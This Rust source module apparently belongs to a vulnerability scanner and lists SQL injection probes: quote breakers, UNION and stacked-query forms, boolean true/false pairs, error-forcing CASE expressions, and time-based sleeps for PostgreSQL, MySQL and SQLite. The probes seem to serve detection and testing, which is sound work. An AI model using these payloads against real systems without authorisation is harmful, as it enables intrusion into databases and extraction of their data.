//! Texts that break out of a value in an SQL statement.

use super::{Delay, Form, Pair};
use crate::evidence::Profile::{Deep, Quick, Standard};

pub(crate) const FORMS: &[Form] = &[
    // Proves nothing by itself: what it breaks tells where to look closer.
    Form::computed("quote", Quick, "«L»'\""),
    Form::computed("concatenation", Standard, "«L»'||(«M»)||'«R»"),
    // Where names of columns or tables are expected.
    Form::computed("subselect", Standard, "(SELECT '«L»'||(«M»)||'«R»' AS «W»)"),
    Form::computed("union", Deep, "«W»' UNION SELECT '«L»'||(«M»)||'«R»' -- "),
    Form::computed("union of two", Deep, "«W»' UNION SELECT '«L»'||(«M»)||'«R»',2 -- "),
    Form::computed("union of three", Deep, "«W»' UNION SELECT 1,'«L»'||(«M»)||'«R»',3 -- "),
    Form::computed("union, MySQL", Deep, "«W»' UNION SELECT CONCAT('«L»',«M»,'«R»') -- "),
    Form::computed("stacked", Deep, "«W»'; SELECT '«L»'||(«M»)||'«R»' -- "),
];

/// What no engine can compute, behind a condition.
macro_rules! case {
    ($low:literal, $high:literal) => {
        concat!(
            "(CASE WHEN '",
            $low,
            "'<'",
            $high,
            "' THEN 1 ELSE abs(-9223372036854775807-1) END)"
        )
    };
}

/// A comparison and its reverse look alike; a tautology may be known to a filter.
pub(crate) const PAIRS: &[Pair] = &[
    Pair::new("comparison", Quick, "«W»' OR '«A»'<'«B»", "«W»' OR '«B»'<'«A»"),
    Pair::new("tautology", Quick, "«W»' OR '1'='1", "«W»' OR '1'='2"),
    Pair::new("comment", Standard, "«W»' OR 1=1 -- ", "«W»' OR 1=2 -- "),
    Pair::narrow("and", Standard, "«V»' AND '«A»'<'«B»", "«V»' AND '«B»'<'«A»"),
    Pair::new("number", Standard, "-«n» OR «a»<«b»", "-«n» OR «b»<«a»"),
    Pair::narrow("number, and", Deep, "«n» AND «a»<«b»", "«n» AND «b»<«a»"),
    Pair::new(
        "comparison, comment",
        Standard,
        "«W»' OR '«A»'<'«B»' -- ",
        "«W»' OR '«B»'<'«A»' -- ",
    ),
    // For what answers the same whatever it finds, and for names of columns.
    Pair::failing(
        "error",
        Standard,
        concat!("«W»'||", case!("«A»", "«B»"), "||'"),
        concat!("«W»'||", case!("«B»", "«A»"), "||'"),
    ),
    Pair::narrow("error, bare", Standard, case!("«A»", "«B»"), case!("«B»", "«A»")),
    // Where quotes are kept out.
    Pair::narrow(
        "error, bare, of numbers",
        Standard,
        "(CASE WHEN «a»<«b» THEN 1 ELSE abs(-9223372036854775807-1) END)",
        "(CASE WHEN «b»<«a» THEN 1 ELSE abs(-9223372036854775807-1) END)",
    ),
    Pair::narrow(
        "order of columns",
        Standard,
        "(CASE WHEN '«A»'<'«B»' THEN «C» ELSE «c» END)",
        "(CASE WHEN '«B»'<'«A»' THEN «C» ELSE «c» END)",
    ),
    Pair::narrow(
        "order",
        Deep,
        "(CASE WHEN '«A»'<'«B»' THEN «V» ELSE -«V» END)",
        "(CASE WHEN '«B»'<'«A»' THEN «V» ELSE -«V» END)",
    ),
    Pair::new("parenthesis", Deep, "«W»') OR ('«A»'<'«B»", "«W»') OR ('«B»'<'«A»"),
    Pair::new("parenthesis, comment", Deep, "«W»') OR '«A»'<'«B»' -- ", "«W»') OR '«B»'<'«A»' -- "),
    Pair::new("double quotes", Deep, "«W»\" OR \"«A»\"<\"«B»", "«W»\" OR \"«B»\"<\"«A»"),
];

macro_rules! joined {
    () => {
        "'«L»'||(«M»)||'«R»'"
    };
}

/// For a text that is kept and becomes part of a statement later: a row of ours, of one to five columns.
pub(crate) const UNIONS: &[Form] = &[
    // What it breaks may be told.
    Form::computed("a quote", Standard, "«L»'\""),
    // No row of its own, also where the statement adds up: ours is the only one then.
    Form::computed(
        "one column",
        Standard,
        concat!("«W»' AND 1=2 GROUP BY 'a' UNION SELECT ", joined!(), " -- "),
    ),
    Form::computed(
        "two columns",
        Standard,
        concat!("«W»' UNION SELECT ", joined!(), ",", joined!(), " -- "),
    ),
    Form::computed(
        "three columns",
        Standard,
        concat!("«W»' UNION SELECT ", joined!(), ",", joined!(), ",", joined!(), " -- "),
    ),
    Form::computed(
        "four columns",
        Standard,
        concat!("«W»' UNION SELECT ", joined!(), ",1,2,", joined!(), " -- "),
    ),
    Form::computed(
        "five columns",
        Standard,
        concat!("«W»' UNION SELECT ", joined!(), ",1,2,3,", joined!(), " -- "),
    ),
];

macro_rules! counting {
    ($n:literal) => {
        concat!(
            "«W»' OR (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT ",
            $n,
            ") SELECT count(x) FROM c)<0 OR '«A»'='«B»"
        )
    };
}

pub(crate) const SLOW: &[Delay] = &[
    Delay {
        name: "PostgreSQL",
        ms: 300,
        slow: "«W»'||(SELECT pg_sleep(0.3))||'",
        fast: "«W»'||(SELECT pg_sleep(0.0))||'",
    },
    Delay {
        name: "MySQL",
        ms: 300,
        slow: "«W»' OR (SELECT SLEEP(0.3))='«A»",
        fast: "«W»' OR (SELECT SLEEP(0.0))='«A»",
    },
    // Counting is all that SQLite can be kept busy with.
    Delay { name: "SQLite", ms: 100, slow: counting!("1000000"), fast: counting!("0000001") },
];
